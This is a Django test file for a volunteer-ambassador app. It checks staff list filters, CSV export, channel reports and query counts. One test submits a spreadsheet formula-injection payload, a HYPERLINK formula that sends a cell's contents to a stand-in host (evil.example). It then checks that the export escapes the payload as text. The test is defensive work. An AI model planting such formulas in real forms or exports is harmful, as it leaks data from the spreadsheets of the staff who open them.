import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditEvent
from ambassadors import selectors
from ambassadors.models import AvailabilitySlot, Status, StatusChange
from ambassadors.tests.factories import ActiveAmbassadorFactory, AmbassadorProfileFactory
from schools.tests.factories import RegionFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def crowd():
    utrecht = RegionFactory(name="Utrecht", slug="utrecht")
    a = ActiveAmbassadorFactory(user__first_name="Anouk", region=utrecht, sector="it", employer="Centric")
    AvailabilitySlot.objects.create(profile=a, weekday=2, part="morning")
    b = AmbassadorProfileFactory(user__first_name="Bram", status=Status.APPLIED, sector="finance", employer="ING")
    AvailabilitySlot.objects.create(profile=b, weekday=4, part="afternoon")
    return a, b


@pytest.mark.parametrize("filters,expected", [
    ({"status": "active"}, {"Anouk"}),
    ({"sector": "finance"}, {"Bram"}),
    ({"weekday": "2"}, {"Anouk"}),
    ({"vog_status": "received"}, {"Anouk"}),
    ({"employer": "ing"}, {"Bram"}),
    ({"q": "bram"}, {"Bram"}),
    ({}, {"Anouk", "Bram"}),
])
def test_list_filters(client, staff_user, crowd, filters, expected):
    client.force_login(staff_user)
    body = client.get(reverse("ambassadors:staff_list"), filters).content.decode()
    shown = {name for name in ("Anouk", "Bram") if f">{name} " in body}
    assert shown == expected


def test_region_filter_and_bad_filters(client, staff_user, crowd):
    client.force_login(staff_user)
    region = crowd[0].region
    body = client.get(reverse("ambassadors:staff_list"), {"region": region.pk}).content.decode()
    assert ">Anouk " in body and ">Bram " not in body
    assert client.get(reverse("ambassadors:staff_list"), {"weekday": "9", "region": "x", "page": "-1"}).status_code == 200


def csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_csv_export_follows_the_filters(client, staff_user, crowd):
    client.force_login(staff_user)
    response = client.get(reverse("ambassadors:staff_export"), {"status": "active"})
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    assert rows[0][:3] == ["Voornaam", "Achternaam", "E-mailadres"]
    assert len(rows) == 2 and rows[1][0] == "Anouk" and rows[1][3] == "Actief" and rows[1][10] == "dinsdag"
    AvailabilitySlot.objects.create(profile=crowd[0], weekday=4, part="morning")
    AvailabilitySlot.objects.create(profile=crowd[0], weekday=1, part="morning")
    rows = csv_rows(client.get(reverse("ambassadors:staff_export"), {"status": "active"}))
    assert rows[1][10] == "maandag dinsdag donderdag"  # in weekday order, as the list shows them


def test_csv_export_shows_formulas_as_text_and_is_recorded(client, staff_user, django_capture_on_commit_callbacks):
    """A name typed into the public application lands in the staff's spreadsheet: it must never run there."""
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("ambassadors:apply"), {
            "first_name": '=HYPERLINK("http://evil.example/?x="&C2,"Klik")', "last_name": "+31 6", "email": "x@example.nl",
            "phone": "0612345678", "postcode": "3511ab", "sector": "finance", "employer": "@Werkgever",
            "employer_release": "yes", "motivations": ["social"], "preferred_tasks": ["classroom"],
            "school_types": ["vo"], "start_date": (timezone.localdate() + datetime.timedelta(days=30)).isoformat(),
            "commitment": "school_year", "day_amount": "full", "weekdays": ["2"], "max_distance_km": "12",
            "heard_via": "employer", "consent": "on"})
    client.force_login(staff_user)
    response = client.get(reverse("ambassadors:staff_export"), {"q": "x@example.nl"})
    [row] = [r for r in csv_rows(response) if r[2] == "x@example.nl"]
    assert row[0] == "'" + '=HYPERLINK("http://evil.example/?x="&C2,"Klik")'
    assert row[1] == "'+31 6" and row[7] == "'@Werkgever"
    event = AuditEvent.objects.get(action="ambassadors.exported")
    assert event.actor == staff_user and event.details["rows"] == 1
    assert event.details["filters"] == {"q": "…"}  # what was typed into the search is not kept


def test_channel_report_counts_a_plan_to_move_apart_from_a_move(client, staff_user):
    AmbassadorProfileFactory(heard_via="friend", status=Status.ENDED, education_job="yes", continue_next_year=False)
    AmbassadorProfileFactory(heard_via="friend", status=Status.ENDED, education_job="no")
    AmbassadorProfileFactory(heard_via="friend", status=Status.ENDED, education_job="planned")
    AmbassadorProfileFactory(heard_via="friend", status=Status.ENDED, education_job="")
    [row] = selectors.channel_report()
    assert (row["applied"], row["moved"], row["plans"]) == (4, 1, 1)
    client.force_login(staff_user)
    body = client.get(reverse("ambassadors:channels")).content.decode()
    assert "Een vriend of collega" in body
    # The share moved, with its denominator and unknowns, is the figures' job: no share of "those who answered" here.
    assert "die antwoordden" not in body and "/staff/#figures-cohorts" in body


def test_channel_report_counts_each_ambassador_once_however_many_steps_they_took():
    for path in ([Status.APPLIED], [Status.APPLIED, Status.INTAKE_PLANNED, Status.ACTIVE]):
        profile = AmbassadorProfileFactory(heard_via="friend", status=path[-1])
        for step in path:
            StatusChange.objects.create(profile=profile, to_status=step)
    [row] = selectors.channel_report()
    assert (row["applied"], row["became_active"], row["active_now"]) == (2, 1, 1)


def test_staff_record_the_outcome(client, staff_user):
    profile = AmbassadorProfileFactory(status=Status.ENDED)
    client.force_login(staff_user)
    response = client.post(reverse("ambassadors:staff_outcome", args=[profile.pk]),
                           {"continue_next_year": "yes", "education_job": "no"})
    assert response.url == reverse("ambassadors:staff_detail", args=[profile.pk])
    profile.refresh_from_db()
    assert profile.continue_next_year is True


@pytest.mark.parametrize("url_name", ["ambassadors:staff_list", "ambassadors:staff_export", "ambassadors:channels"])
def test_staff_pages_query_count_is_flat(client, staff_user, django_assert_max_num_queries, url_name):
    client.force_login(staff_user)
    for _ in range(10):
        AvailabilitySlot.objects.create(profile=ActiveAmbassadorFactory(region=RegionFactory()), weekday=1, part="morning")
    with django_assert_max_num_queries(15) as small:
        response = client.get(reverse(url_name))
        assert response.status_code == 200 and len(csv_rows(response) if url_name.endswith("export") else "x")
    for _ in range(190):
        AvailabilitySlot.objects.create(profile=ActiveAmbassadorFactory(region=RegionFactory()), weekday=3, part="morning")
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = client.get(reverse(url_name))
        assert response.status_code == 200 and len(csv_rows(response) if url_name.endswith("export") else "x")


def test_detail_page_query_count_is_flat(client, staff_user, django_assert_max_num_queries):
    from ambassadors import services

    profile = AmbassadorProfileFactory(status=Status.APPLIED)
    client.force_login(staff_user)
    url = reverse("ambassadors:staff_detail", args=[profile.pk])
    with django_assert_max_num_queries(20) as small:
        client.get(url)
    for status in [Status.INTAKE_PLANNED, Status.INTAKE_DONE, Status.VOG_REQUESTED]:
        if status == Status.INTAKE_PLANNED:
            profile.intake_at = profile.created_at
            profile.save()
        services.status_transition(profile_id=profile.pk, actor=staff_user, to_status=status)
    for day in range(1, 6):
        AvailabilitySlot.objects.create(profile=profile, weekday=day, part="morning")
    with django_assert_max_num_queries(len(small.captured_queries)):
        assert client.get(url).status_code == 200


def test_ambassador_dashboard_query_count_is_flat(client, django_assert_max_num_queries):
    profile = ActiveAmbassadorFactory()
    client.force_login(profile.user)
    with django_assert_max_num_queries(15) as small:
        client.get(reverse("ambassadors:dashboard"))
    for day in range(1, 6):
        AvailabilitySlot.objects.create(profile=profile, weekday=day, part="afternoon")
    with django_assert_max_num_queries(len(small.captured_queries)):
        assert client.get(reverse("ambassadors:dashboard")).status_code == 200
